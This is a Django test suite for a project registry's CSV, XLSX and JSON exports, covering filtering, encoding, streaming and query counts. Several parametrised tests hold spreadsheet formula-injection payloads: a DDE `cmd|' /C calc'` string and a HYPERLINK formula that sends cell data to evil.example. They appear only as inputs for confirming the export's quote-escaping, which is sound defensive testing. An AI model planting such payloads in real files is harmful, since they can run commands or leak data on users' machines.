"""The CSV, XLSX and JSON exports of /projects/: the list's projects, safe for Excel, streamed."""

import codecs
import collections.abc
import contextvars
import csv
import io
import json
from datetime import UTC, date, datetime, timedelta

import openpyxl
import pytest
from django.db import connection
from django.db.models.signals import pre_init
from django.http import FileResponse, QueryDict, StreamingHttpResponse
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse, set_script_prefix
from django.utils import timezone, translation

from networks.models import Membership, Network
from projects import export_copy, exports
from projects.exports import COLUMNS, FLUSH_AT, project_record
from projects.filters import ProjectFilter
from projects.models import (
    EARLIEST_YEAR,
    LATEST_YEAR,
    Project,
    ProjectTranslation,
    Result,
    current_year,
    derived_status,
)
from tests.factories import (
    make_funder,
    make_municipality,
    make_organisation,
    make_project,
)

pytestmark = pytest.mark.django_db

FORMATS = ("csv", "xlsx", "json")
YEAR = current_year()


def export(client, fmt, query="", **extra):
    url = reverse(f"projects:export_{fmt}")
    return client.get(f"{url}?{query}" if query else url, **extra)


def content_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def read_csv(response):
    text = content_of(response).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read_xlsx(response):
    sheet = openpyxl.load_workbook(io.BytesIO(content_of(response))).active
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def read_json(response):
    return json.loads(content_of(response))["results"]


READERS = {"csv": read_csv, "xlsx": read_xlsx, "json": read_json}


def exported_slugs(client, fmt, query=""):
    response = export(client, fmt, query)
    assert response.status_code == 200
    return [row["slug"] for row in READERS[fmt](response)]


def listed_slugs(query):
    """The slugs the list page shows for `query`, in its order: the same FilterSet."""
    queryset = Project.objects.published().for_list()
    return [project.slug for project in ProjectFilter(QueryDict(query), queryset=queryset).qs]


@pytest.fixture
def catalogue():
    """Five published projects in two countries' municipalities, and one draft."""
    norrkoping = make_municipality("norrkoping", name="Norrköping")
    rezekne = make_municipality("rezekne", name="Rēzekne", country_code="LV")
    vaxjo = make_municipality("vaxjo", name="Växjö")
    sida = make_funder("sida", name="Sida")
    icld = make_funder("icld", name="ICLD", parent=sida)
    erasmus = make_funder("erasmus-plus", name="Erasmus+")
    eurocities = Network.objects.create(name="Eurocities", slug="eurocities")
    Membership.objects.create(network=eurocities, municipality=norrkoping)
    make_project(
        slug="school-exchange",
        title="School exchange Norrköping–Rēzekne",
        municipality=norrkoping,
        countries=["LV", "KE"],
        goals=[4, 11],
        funders=[erasmus, sida],
        organisations=[make_organisation(norrkoping, name="Kulturskolan")],
        partner_municipalities=[rezekne],
        networks=[eurocities],
        type=Project.Type.EXCHANGE,
        start_year=YEAR - 6,
        end_year=YEAR - 4,
        website="https://example.org/exchange",
    )
    make_project(
        slug="water-partnership",
        title="Water partnership",
        municipality=vaxjo,
        countries=["KE"],
        goals=[6],
        funders=[icld],
        type=Project.Type.MUNICIPAL_PARTNERSHIP,
        start_year=YEAR - 3,
        end_year=None,
    )
    make_project(
        slug="latgale-youth",
        title="Latgale youth",
        municipality=rezekne,
        countries=["SE"],
        goals=[4],
        funders=[sida],
        type=Project.Type.MOBILITY,
        start_year=YEAR + 2,
        end_year=YEAR + 3,
    )
    make_project(
        slug="paused-research",
        title="Paused research",
        municipality=norrkoping,
        type=Project.Type.RESEARCH,
        start_year=YEAR - 5,
        end_year=YEAR + 1,
        paused=True,
        networks=[eurocities],
    )
    make_project(
        slug="archive-study",
        title="Archive study",
        municipality=vaxjo,
        goals=[11],
        start_year=YEAR - 12,
        end_year=YEAR - 11,
    )
    make_project(
        slug="secret-draft",
        title="Secret draft in Rēzekne",
        municipality=norrkoping,
        countries=["LV"],
        goals=[4],
        funders=[sida],
        publication=Project.Publication.DRAFT,
    )


ALL = {"school-exchange", "water-partnership", "latgale-youth", "paused-research", "archive-study"}
FILTERS = [
    ("", ALL),
    ("page=2", ALL),
    ("goal=4", {"school-exchange", "latgale-youth"}),
    ("goal=4&goal=6", {"school-exchange", "latgale-youth", "water-partnership"}),
    ("goal=4&country=LV", {"school-exchange"}),
    ("country=lv&country=KE", {"school-exchange", "water-partnership"}),
    ("funder=sida", {"school-exchange", "water-partnership", "latgale-youth"}),
    ("municipality=vaxjo", {"water-partnership", "archive-study"}),
    ("network=eurocities", {"school-exchange", "paused-research"}),
    ("status=completed", {"school-exchange", "archive-study"}),
    ("status=planned&status=paused", {"latgale-youth", "paused-research"}),
    ("type=research&type=mobility", {"paused-research", "latgale-youth"}),
    (f"active_in={YEAR - 5}", {"school-exchange", "paused-research"}),
    ("q=REZEKNE", {"school-exchange", "latgale-youth"}),
    ("sort=title", ALL),
    ("sort=-title&goal=11", {"school-exchange", "archive-study"}),
    ("sort=municipality&colour=red", ALL),
]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(("query", "expected"), FILTERS)
def test_an_export_holds_the_lists_projects_in_the_lists_order(
    client, catalogue, fmt, query, expected
):
    slugs = exported_slugs(client, fmt, query)
    assert slugs == listed_slugs(query)
    assert set(slugs) == expected


def test_the_sort_parameter_orders_the_export(client, catalogue):
    assert exported_slugs(client, "csv", "sort=title") == [
        "archive-study",
        "latgale-youth",
        "paused-research",
        "school-exchange",
        "water-partnership",
    ]
    newest_first = exported_slugs(client, "json")
    assert newest_first[0] == "latgale-youth"
    assert newest_first[-1] == "archive-study"


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_export_holds_the_projects_linked_from_the_list_page(client, catalogue, fmt):
    # The list shows one page (all five fit on it); the export ignores `page`.
    for query in [query for query, _ in FILTERS if "page=" not in query]:
        page = client.get(f"/projects/?{query}")
        assert page.status_code == 200, query
        html = page.content.decode()
        positions = {
            slug: html.find(f'href="{reverse("projects:detail", args=[slug])}"') for slug in ALL
        }
        linked = [
            slug for position, slug in sorted((p, s) for s, p in positions.items()) if position >= 0
        ]
        assert exported_slugs(client, fmt, query) == linked, query


@pytest.mark.parametrize("fmt", FORMATS)
def test_drafts_are_never_exported_even_when_they_match(client, catalogue, fmt):
    for query in ("", "q=secret", "goal=4&country=LV", "municipality=norrkoping"):
        assert "secret-draft" not in exported_slugs(client, fmt, query)
    assert exported_slugs(client, fmt, "q=secret") == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_file_is_an_attachment_named_with_todays_local_date(client, fmt):
    response = export(client, fmt)
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="projects-{today}.{fmt}"'


def test_content_types_name_the_format(client):
    assert export(client, "csv")["Content-Type"] == "text/csv; charset=utf-8"
    assert export(client, "json")["Content-Type"] == "application/json"
    assert export(client, "xlsx")["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )


def test_csv_has_one_byte_order_mark_and_keeps_swedish_and_latvian_letters(client, catalogue):
    raw = content_of(export(client, "csv"))
    assert raw.startswith(codecs.BOM_UTF8)
    assert not raw[3:].startswith(codecs.BOM_UTF8)
    rows = {row["slug"]: row for row in read_csv(export(client, "csv"))}
    exchange = rows["school-exchange"]
    assert exchange["title"] == "School exchange Norrköping–Rēzekne"
    assert exchange["municipality_name"] == "Norrköping"
    assert exchange["partner_municipalities"] == "Rēzekne"
    assert rows["water-partnership"]["municipality_name"] == "Växjö"


def test_xlsx_keeps_swedish_and_latvian_letters(client, catalogue):
    rows = {row["slug"]: row for row in read_xlsx(export(client, "xlsx"))}
    assert rows["school-exchange"]["title"] == "School exchange Norrköping–Rēzekne"
    assert rows["latgale-youth"]["municipality_name"] == "Rēzekne"


def test_json_keeps_letters_unescaped_in_utf8(client, catalogue):
    raw = content_of(export(client, "json"))
    assert "Norrköping–Rēzekne".encode() in raw
    assert json.loads(raw)["results"][0]["title"]


def test_a_csv_row_holds_every_column_with_lists_joined_by_semicolons(client, catalogue):
    rows = read_csv(export(client, "csv", "goal=4&country=LV", HTTP_ACCEPT_LANGUAGE="en"))
    [row] = rows
    updated = timezone.localtime(Project.objects.get(slug="school-exchange").changed_at)
    assert row == {
        "slug": "school-exchange",
        "title": "School exchange Norrköping–Rēzekne",
        "municipality": "norrkoping",
        "municipality_name": "Norrköping",
        "units": "Kulturskolan",
        "partner_municipalities": "Rēzekne",
        "partner_countries": "KE; LV",
        "partner_country_names": "Kenya; Latvia",
        "funders": "erasmus-plus; sida",
        "funder_names": "Erasmus+; Sida",
        "goals": "4; 11",
        "goal_names": "Goal 4; Goal 11",
        "type": "exchange",
        "type_label": "exchange",
        "status": "completed",
        "status_label": "completed",
        "start_year": str(YEAR - 6),
        "end_year": str(YEAR - 4),
        "website": "https://example.org/exchange",
        "url": "http://testserver/projects/school-exchange/",
        "updated_at": updated.isoformat(timespec="seconds"),
        "funders_stated": "erasmus-plus; sida",
        "funders_assumed": "",
        "goals_stated": "4; 11",
        "goals_assumed": "",
        "confirmed_on": timezone.localdate().isoformat(),
        **dict.fromkeys(
            ["grant_funders", "grant_kinds", "grant_amounts", "grant_currencies", "grant_years"],
            "",
        ),
        **dict.fromkeys(["reference_funders", "reference_numbers", "reference_urls"], ""),
        "original_language": "sv",
        "title_sv": "School exchange Norrköping–Rēzekne",
        **dict.fromkeys(
            [
                *["title_en", "title_lv", "summary_sv", "summary_en", "summary_lv"],
                *["description_sv", "description_en", "description_lv"],
            ],
            "",
        ),
        **dict.fromkeys(
            ["partner_organisations", "partner_organisation_countries", "result_dates"], ""
        ),
        **dict.fromkeys(["result_urls", "result_reach_numbers", "result_reach_units"], ""),
    }
    assert updated.isoformat(timespec="seconds").endswith(("+01:00", "+02:00"))


@pytest.mark.parametrize("language", ["sv", "en", "lv"])
def test_headers_stay_the_same_keys_while_names_follow_the_language(client, catalogue, language):
    countries = {"sv": "Kenya; Lettland", "en": "Kenya; Latvia", "lv": "Kenija; Latvija"}
    goals = {"sv": "Mål 4; Mål 11", "en": "Goal 4; Goal 11", "lv": "Mērķis 4; Mērķis 11"}
    csv_rows = read_csv(export(client, "csv", "goal=4&country=LV", HTTP_ACCEPT_LANGUAGE=language))
    assert tuple(csv_rows[0]) == COLUMNS
    assert csv_rows[0]["partner_country_names"] == countries[language]
    assert csv_rows[0]["goal_names"] == goals[language]
    xlsx_rows = read_xlsx(
        export(client, "xlsx", "goal=4&country=LV", HTTP_ACCEPT_LANGUAGE=language)
    )
    assert tuple(xlsx_rows[0]) == COLUMNS
    assert xlsx_rows[0]["partner_country_names"] == countries[language]
    [result] = read_json(export(client, "json", "goal=4&country=LV", HTTP_ACCEPT_LANGUAGE=language))
    assert tuple(result) == COLUMNS
    assert result["partner_country_names"] == countries[language].split("; ")


def test_json_results_keep_the_published_keys_and_types(client, catalogue):
    response = export(client, "json", "sort=title")
    document = json.loads(content_of(response))
    assert list(document) == ["count", "results"]
    assert document["count"] == 5 == len(document["results"])
    results = {result["slug"]: result for result in document["results"]}
    water = results["water-partnership"]
    assert water["title"] == "Water partnership"
    assert water["url"] == "http://testserver/projects/water-partnership/"
    assert water["municipality"] == "vaxjo"
    assert water["partner_countries"] == ["KE"]
    assert water["funders"] == ["icld"]
    assert water["goals"] == [6]
    assert water["type"] == "municipal_partnership"
    assert water["status"] == "ongoing"
    assert water["start_year"] == YEAR - 3
    assert water["end_year"] is None
    assert water["website"] == ""
    assert results["school-exchange"]["partner_countries"] == ["KE", "LV"]
    assert results["school-exchange"]["goals"] == [4, 11]
    assert results["school-exchange"]["units"] == ["Kulturskolan"]
    assert results["paused-research"]["status"] == "paused"
    assert results["latgale-youth"]["status"] == "planned"
    assert results["archive-study"]["partner_countries"] == []
    for result in document["results"]:
        assert set(result) == set(COLUMNS)
        assert all(isinstance(goal, int) for goal in result["goals"])
        assert all(code.isupper() and len(code) == 2 for code in result["partner_countries"])
        assert isinstance(result["start_year"], int)
        assert result["end_year"] is None or isinstance(result["end_year"], int)


def test_an_empty_result_is_still_a_valid_document(client, catalogue):
    assert json.loads(content_of(export(client, "json", "q=nothing-matches"))) == {
        "count": 0,
        "results": [],
    }
    assert read_csv(export(client, "csv", "q=nothing-matches")) == []
    assert read_xlsx(export(client, "xlsx", "q=nothing-matches")) == []


FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_csv_cell_that_would_run_as_a_formula_starts_with_a_quote(client, start):
    unit = make_organisation(name=f"{start}cmd|' /C calc'!A0")
    make_project(
        title=f'{start}HYPERLINK("http://evil.example/?"&A1)',
        organisations=[unit],
        start_year=2020,
    )
    [row] = read_csv(export(client, "csv"))
    assert row["title"] == f'\'{start}HYPERLINK("http://evil.example/?"&A1)'
    assert row["units"] == f"'{start}cmd|' /C calc'!A0"
    assert row["start_year"] == "2020"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_an_xlsx_cell_that_would_run_as_a_formula_starts_with_a_quote(client, start):
    unit = make_organisation(name=f"{start}cmd|' /C calc'!A0")
    make_project(title=f"{start}1+1", organisations=[unit], start_year=2020)
    sheet = openpyxl.load_workbook(io.BytesIO(content_of(export(client, "xlsx")))).active
    title, units, start_year = (
        sheet.cell(row=2, column=COLUMNS.index(key) + 1) for key in ("title", "units", "start_year")
    )
    # XML turns a bare carriage return into a line feed; what matters is the leading quote.
    assert title.value.replace("\n", "\r") == f"'{start}1+1"
    assert title.data_type == "s"
    assert units.value.startswith("'") and units.data_type == "s"
    assert start_year.value == 2020 and start_year.data_type == "n"


def test_json_is_data_and_keeps_a_formula_like_title_as_it_is(client):
    make_project(title="=1+1")
    assert read_json(export(client, "json"))[0]["title"] == "=1+1"


def test_a_control_character_excel_cannot_store_is_dropped_not_a_500(client):
    make_project(title="Word\x0bpaste", slug="word-paste")
    make_project(title="\x0b=1+1", slug="hidden-formula")
    rows = {row["slug"]: row for row in read_xlsx(export(client, "xlsx"))}
    assert rows["word-paste"]["title"] == "Wordpaste"
    assert rows["hidden-formula"]["title"] == "'=1+1"
    assert {row["slug"]: row["title"] for row in read_csv(export(client, "csv"))} == {
        "word-paste": "Wordpaste",
        "hidden-formula": "'=1+1",
    }


def test_the_xlsx_has_a_bold_frozen_header_and_set_column_widths(client, catalogue):
    response = export(client, "xlsx")
    assert isinstance(response, FileResponse)
    sheet = openpyxl.load_workbook(io.BytesIO(content_of(response))).active
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == list(COLUMNS)
    assert all(cell.font.b for cell in sheet[1])
    assert not sheet["A2"].font.b
    assert sheet.column_dimensions["B"].width == 50
    assert sheet.max_row == 6


BAD_QUERIES = [
    ("goal=99", ["goal"]),
    ("goal=abc", ["goal"]),
    ("goal=99999999999999999999", ["goal"]),
    ("country=XX", ["country"]),
    ("municipality=nowhere", ["municipality"]),
    ("funder=nobody", ["funder"]),
    ("network=none", ["network"]),
    ("status=sleeping", ["status"]),
    ("type=party", ["type"]),
    ("active_in=1800", ["active_in"]),
    ("active_in=soon", ["active_in"]),
    ("sort=price", ["sort"]),
    ("goal=99&active_in=soon&q=fine&unknown=ignored", ["goal", "active_in"]),
    ("municipality=norr%00koping", ["municipality"]),
    ("q=a%00b", ["q"]),
]


@pytest.mark.parametrize(("query", "names"), BAD_QUERIES)
def test_a_bad_filter_answers_400_in_json_naming_the_parameter(client, catalogue, query, names):
    response = export(client, "json", query)
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    errors = response.json()["errors"]
    assert sorted(errors) == sorted(names)
    assert all(
        messages and all(isinstance(m, str) and m for m in messages) for messages in errors.values()
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(("query", "names"), BAD_QUERIES)
def test_a_bad_filter_answers_400_in_plain_text_naming_the_parameter(
    client, catalogue, fmt, query, names
):
    response = export(client, fmt, query)
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    lines = response.content.decode().splitlines()
    named = {line.split(":", 1)[0] for line in lines[1:]}
    assert named == set(names)
    assert "Content-Disposition" not in response


def test_the_400_message_names_the_bad_value(client, catalogue):
    response = export(client, "csv", "goal=99", HTTP_ACCEPT_LANGUAGE="en")
    assert "goal: Select a valid choice. 99 is not one of the available choices." in (
        response.content.decode()
    )


def test_the_csv_is_streamed_from_a_generator_that_queries_nothing_before_it_is_read(
    client, catalogue
):
    with CaptureQueriesContext(connection) as queries:
        response = export(client, "csv")
    # (The middleware may ask for the newest update time; no project row is read yet.)
    assert not [query for query in queries if '"projects_project"."slug"' in query["sql"]]
    assert isinstance(response, StreamingHttpResponse)
    assert isinstance(response.streaming_content, collections.abc.Iterator)
    assert len(read_csv(response)) == 5


def test_streamed_rows_are_built_in_the_context_of_the_request_that_asked(catalogue, monkeypatch):
    # The server reads a streamed body after the middleware has returned; the rows must still
    # be built in the request's language and read through its database routing, which
    # registry.db_router keeps in a context variable like this one.
    routed = contextvars.ContextVar("routed", default="primary")
    seen = []

    def spy(*args):
        seen.append(routed.get())
        return project_record(*args)

    monkeypatch.setattr(exports, "project_record", spy)
    queryset = Project.objects.published().for_list().filter(slug="school-exchange")
    token = routed.set("replica")
    with translation.override("en"):
        records = exports.project_records(queryset, lambda path: f"https://example.org{path}")
    routed.reset(token)
    with translation.override("lv"):
        [record] = list(records)
    assert record["partner_country_names"] == ["Kenya", "Latvia"]
    assert record["url"] == "https://example.org/projects/school-exchange/"
    assert seen == ["replica"]


def test_the_json_is_streamed_too(client, catalogue):
    response = export(client, "json")
    assert isinstance(response, StreamingHttpResponse)
    assert isinstance(response.streaming_content, collections.abc.Iterator)


def _projects_with_every_relation(count):
    partner = make_municipality("partner-town")
    for _ in range(count):
        make_project(
            countries=["LV"],
            goals=[4],
            funders=["sida"],
            organisations=[make_organisation()],
            partner_municipalities=[partner],
        )


# Validating goal, country and funder: 3 queries, and 1 more for the funder tree (the funders
# Sida finances); the middleware's Last-Modified: 1; the projects: 1, each related table once:
# 6 (the organisations twice: units by name, partner organisations with their countries), and
# the links of the one chunk: 1, and its grants, funders' identifiers, results and
# translations: 4; for JSON the COUNT: 1; the COUNT that decides whether the export is a
# background job (projects/export_jobs.py): 1. None of them depends on the number of rows.
QUERY_BOUND = 19


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("count", [3, 40])
def test_queries_do_not_grow_with_the_rows(client, django_assert_max_num_queries, fmt, count):
    _projects_with_every_relation(count)
    with django_assert_max_num_queries(QUERY_BOUND):
        response = export(client, fmt, "goal=4&country=LV&funder=sida")
        rows = READERS[fmt](response)
    assert len(rows) == count


def test_a_3_row_and_a_40_row_export_cost_the_same_queries(client):
    def queries_for(fmt):
        with CaptureQueriesContext(connection) as queries:
            READERS[fmt](export(client, fmt, "goal=4&country=LV&funder=sida"))
        return len(queries.captured_queries)

    _projects_with_every_relation(3)
    few = {fmt: queries_for(fmt) for fmt in FORMATS}
    _projects_with_every_relation(37)
    assert {fmt: queries_for(fmt) for fmt in FORMATS} == few


def test_a_20000_project_csv_streams_in_many_small_pieces(client):
    # bulk_create skips save(), so search_text is set here. About 10 s on SQLite, under 20.
    municipality = make_municipality("bulk-town", name="Bulkköping")
    Project.objects.bulk_create(
        Project(
            title=f"Bulk project {number:05d}",
            slug=f"bulk-{number:05d}",
            municipality=municipality,
            publication=Project.Publication.PUBLISHED,
            start_year=2000 + number % 50,
            search_text=f"bulk project {number:05d} bulkkoping",
        )
        for number in range(20_000)
    )
    response = export(client, "csv")
    pieces = list(response.streaming_content)
    assert len(pieces) > 100
    assert max(len(piece) for piece in pieces) < 64 * 1024
    assert max(len(piece) for piece in pieces) < FLUSH_AT + 1024
    rows = list(csv.DictReader(io.StringIO(b"".join(pieces).decode("utf-8-sig"), newline="")))
    assert len(rows) == 20_000
    assert len({row["slug"] for row in rows}) == 20_000
    assert rows[0]["start_year"] == "2049"


def test_each_chunk_of_projects_costs_the_same_queries(client, monkeypatch):
    # The records built in Python, for the JSON and XLSX everywhere (and the CSV but on
    # PostgreSQL, whose COPY is one query whatever the number of rows).
    monkeypatch.setattr(exports, "CHUNK_SIZE", 4)

    def queries_for(count):
        _projects_with_every_relation(count - Project.objects.count())
        with CaptureQueriesContext(connection) as queries:
            assert len(read_json(export(client, "json"))) == count
        return len(queries.captured_queries)

    one, two, three = queries_for(4), queries_for(8), queries_for(11)
    # One query for the links of each chunk of 4, whatever the tables, one for each kind of
    # the projects' own rows (grants, funders' identifiers, results) and one for their
    # translations; the last chunk a short one. (The projects are one query, read a chunk at
    # a time.)
    assert two - one == three - two == 1 + len(exports.OWNED) + 1


def test_an_export_builds_no_model_instance_per_row(client):
    built = []

    def count(sender, **kwargs):
        built.append(sender)

    def instances_for(fmt):
        built.clear()
        READERS[fmt](export(client, fmt, "goal=4&country=LV&funder=sida"))
        return len(built)

    pre_init.connect(count)
    try:
        _projects_with_every_relation(3)
        few = {fmt: instances_for(fmt) for fmt in FORMATS}
        _projects_with_every_relation(37)
        assert {fmt: instances_for(fmt) for fmt in FORMATS} == few
    finally:
        pre_init.disconnect(count)


@pytest.mark.parametrize(
    ("paused", "start_year", "end_year"),
    [
        (paused, start, end)
        for paused in (False, True)
        for start in (None, 0, YEAR - 2, YEAR - 1, YEAR, YEAR + 1, YEAR + 2)
        for end in (None, 0, YEAR - 2, YEAR - 1, YEAR, YEAR + 1, YEAR + 2)
    ],
)
def test_the_exports_status_is_the_models(paused, start_year, end_year):
    project = Project(paused=paused, start_year=start_year, end_year=end_year)
    for year in (YEAR - 1, YEAR, YEAR + 1):
        expected = project.status_in(year).value
        assert exports.status_in(paused, start_year, end_year, year) == expected


def record_from_the_models(project, request):
    """A project's record as the models tell it, one instance at a time: what the export
    computes from plain values must be the same."""
    countries = list(project.partner_countries.all())
    funders = list(project.funders.all())
    goals = list(project.goals.all())
    funder_links = sorted(
        project.projectfunder_set.select_related("funder"),
        key=lambda link: funders.index(link.funder),
    )
    goal_links = sorted(
        project.projectgoal_set.select_related("goal"), key=lambda link: link.goal_id
    )
    status = project.status_in(YEAR)
    return {
        "slug": project.slug,
        "title": project.title,
        "municipality": project.municipality.slug,
        "municipality_name": project.municipality.name,
        "units": [unit.name for unit in project.organisations.all()],
        "partner_municipalities": [town.name for town in project.partner_municipalities.all()],
        "partner_countries": [country.code.upper() for country in countries],
        "partner_country_names": [str(country.name) for country in countries],
        "funders": [funder.slug for funder in funders],
        "funder_names": [funder.name for funder in funders],
        "goals": [goal.number for goal in goals],
        "goal_names": [goal.name for goal in goals],
        "type": project.type,
        "type_label": project.get_type_display(),
        "status": status.value,
        "status_label": str(status.label),
        "start_year": project.start_year,
        "end_year": project.end_year,
        "website": project.website,
        "url": request.build_absolute_uri(project.get_absolute_url()),
        "updated_at": timezone.localtime(project.changed_at).isoformat(timespec="seconds"),
        "funders_stated": [link.funder.slug for link in funder_links if not link.assumed],
        "funders_assumed": [link.funder.slug for link in funder_links if link.assumed],
        "goals_stated": [link.goal.number for link in goal_links if not link.assumed],
        "goals_assumed": [link.goal.number for link in goal_links if link.assumed],
        "confirmed_on": project.confirmed_on and project.confirmed_on.isoformat(),
        **money_from_the_models(project),
        "original_language": project.language,
        **texts_from_the_models(project),
        **partners_and_results_from_the_models(project),
    }


def partners_and_results_from_the_models(project):
    """The keys of a project's partner organisations (by name) and results (oldest first)."""
    bodies = project.partner_organisations.order_by("name", "pk")
    results = project.results.order_by("date", "pk")
    return {
        "partner_organisations": [body.name for body in bodies],
        "partner_organisation_countries": [(body.country_id or "").upper() for body in bodies],
        "result_dates": [result.date.isoformat() for result in results],
        "result_urls": [result.url for result in results],
        "result_reach_numbers": [
            "" if result.reach_number is None else str(result.reach_number) for result in results
        ],
        "result_reach_units": [result.reach_unit for result in results],
    }


def texts_from_the_models(project):
    """`<field>_<language>`: the original in its language, each translation in its own, ""
    for a language without one."""
    texts = {language: project for language in [project.language]}
    texts.update({translation.language: translation for translation in project.translations.all()})
    return {
        f"{field}_{language}": getattr(texts[language], field) if language in texts else ""
        for field in ("title", "summary", "description")
        for language in ("sv", "en", "lv")
    }


def money_from_the_models(project):
    """The keys of a project's grants and funders' identifiers, from its rows (their models'
    order: the funder's name, then the year, an unknown one last)."""
    grants = sorted(
        project.grants.select_related("funder"),
        key=lambda grant: (
            grant.funder.name, grant.funder_id, grant.year is None, grant.year or 0, grant.pk
        ),
    )
    references = project.funder_references.select_related("funder").order_by(
        "funder__name", "funder_id", "number", "pk"
    )
    return {
        "grant_funders": [grant.funder.slug for grant in grants],
        "grant_kinds": [grant.kind for grant in grants],
        "grant_amounts": [f"{grant.amount:.2f}" for grant in grants],
        "grant_currencies": [grant.currency for grant in grants],
        "grant_years": ["" if grant.year is None else str(grant.year) for grant in grants],
        "reference_funders": [reference.funder.slug for reference in references],
        "reference_numbers": [reference.number for reference in references],
        "reference_urls": [reference.url for reference in references],
    }


@pytest.fixture
def crowded(catalogue):
    """The catalogue, and a project whose every list has several items, added out of order."""
    town = make_municipality("lindenau", name="Lindenau", country_code="DE")
    make_project(
        slug="crowded",
        title="Crowded",
        municipality=town,
        countries=["UA", "DE", "KE", "LV"],
        goals=[17, 3, 11],
        funders=["sida", "erasmus-plus", make_funder("allmanna-arvsfonden", name="Arvsfonden")],
        organisations=[make_organisation(town, name=name) for name in ("Öster", "Ateljén", "Bo")],
        partner_municipalities=[
            make_municipality("vaxjo"),
            make_municipality("aarhus", name="Aarhus", country_code="DK"),
            make_municipality("rezekne"),
        ],
        type=Project.Type.COMMUNICATION,
        start_year=None,
        end_year=YEAR + 4,
        website="https://example.org/crowded",
        language=Project.Language.LATVIAN,
        summary="Pārpildīts",
        description="Pirmā rindkopa.\n\nOtrā, ar komatu.",
    )
    crowded = Project.objects.get(slug="crowded")
    # Partner organisations abroad out of name order, one without a country; results out of
    # date order, one without a link or reach.
    crowded.partner_organisations.add(
        *(
            make_organisation(name=name, municipality=None, country_id=country)
            for name, country in [("Zaporizhzhia Lyceum", "UA"), ("Aarhus Universitet", "DK")]
        ),
        make_organisation(name="Nowhere Trust", municipality=None),
    )
    Result.objects.create(
        project=crowded, date=date(2022, 3, 1), text="Ziņojums; otrā daļa",
        url="https://example.org/report.pdf", reach_number=40, reach_unit="skolēni",
    )
    Result.objects.create(project=crowded, date=date(2021, 9, 1), text="Vizīte")
    # Translated into Swedish only in part (no description), into English not at all.
    ProjectTranslation.objects.create(
        project=Project.objects.get(slug="crowded"),
        language="sv",
        title="Trångt",
        summary="Fullsatt",
        translated_by="Lindenau",
    )


@pytest.mark.parametrize("language", ["sv", "en", "lv"])
@pytest.mark.parametrize("query", ["", "sort=title", "sort=municipality", "country=KE"])
def test_every_record_is_what_the_models_say(client, crowded, query, language):
    request = RequestFactory().get("/", HTTP_HOST="testserver")
    with translation.override(language):
        queryset = Project.objects.published().for_list()
        projects = ProjectFilter(QueryDict(query), queryset=queryset).qs
        expected = [record_from_the_models(project, request) for project in projects]
    response = export(client, "json", query, HTTP_ACCEPT_LANGUAGE=language)
    assert read_json(response) == expected
    crowded = next(record for record in expected if record["slug"] == "crowded")
    assert crowded["units"] == ["Ateljén", "Bo", "Öster"]
    assert crowded["partner_countries"] == ["DE", "KE", "LV", "UA"]
    assert crowded["funders"] == ["allmanna-arvsfonden", "erasmus-plus", "sida"]
    assert crowded["goals"] == [3, 11, 17]
    rows = read_csv(export(client, "csv", query, HTTP_ACCEPT_LANGUAGE=language))
    assert rows == [
        {key: "" if cell is None else str(cell) for key, cell in zip(COLUMNS, cells, strict=True)}
        for cells in map(exports.spreadsheet_row, expected)
    ]


@pytest.mark.parametrize("chunk_size", [1, 2, 6, 7])
def test_chunks_of_any_size_give_the_same_export(client, crowded, monkeypatch, chunk_size):
    whole = {fmt: READERS[fmt](export(client, fmt, "sort=title")) for fmt in FORMATS}
    monkeypatch.setattr(exports, "CHUNK_SIZE", chunk_size)
    assert {fmt: READERS[fmt](export(client, fmt, "sort=title")) for fmt in FORMATS} == whole


@pytest.mark.parametrize("slug", ["a", "School_Exchange-2024", "x" * 120])
def test_the_url_built_once_is_the_url_of_each_project(settings, slug):
    settings.ALLOWED_HOSTS = ["registry.example.org"]
    request = RequestFactory().get("/", HTTP_HOST="registry.example.org", secure=True)
    set_script_prefix("/registry/")
    try:
        expected = request.build_absolute_uri(Project(slug=slug).get_absolute_url())
        assert exports.Shared(YEAR, request.build_absolute_uri).url(slug) == expected
    finally:
        set_script_prefix("/")
    assert expected == f"https://registry.example.org/registry/projects/{slug}/"


def test_links_to_rows_added_during_an_export_are_exported(crowded, monkeypatch):
    # The related tables are read once when the export begins; a unit, funder or partner
    # created and linked while it streams must still appear, not break the file.
    monkeypatch.setattr(exports, "CHUNK_SIZE", 1)
    queryset = Project.objects.published().for_list().order_by("title")
    records = exports.project_records(queryset, lambda path: f"https://example.org{path}")
    first = next(records)
    later = Project.objects.published().exclude(slug=first["slug"]).order_by("title").last()
    later.organisations.add(make_organisation(name="Nyskolan"))
    later.funders.add(make_funder("nyfonden", name="Nyfonden"))
    later.partner_municipalities.add(make_municipality("nystad", name="Nystad"))
    record = next(record for record in records if record["slug"] == later.slug)
    assert "Nyskolan" in record["units"]
    assert "Nystad" in record["partner_municipalities"]
    assert record["funders"][record["funder_names"].index("Nyfonden")] == "nyfonden"


def test_links_decoded_afresh_for_every_project_give_the_same_export(client, crowded, monkeypatch):
    whole = {fmt: READERS[fmt](export(client, fmt, "sort=title")) for fmt in FORMATS}
    # Nothing remembered beyond "no links": every project's links are decoded again.
    monkeypatch.setattr(exports, "DECODED_LIMIT", 1)
    assert {fmt: READERS[fmt](export(client, fmt, "sort=title")) for fmt in FORMATS} == whole


def test_funders_of_the_same_name_keep_their_order_by_id(client):
    first = make_funder("fund-b", name="Fund")
    second = make_funder("fund-a", name="Fund")
    make_project(slug="twins", funders=[second, first])
    [record] = read_json(export(client, "json"))
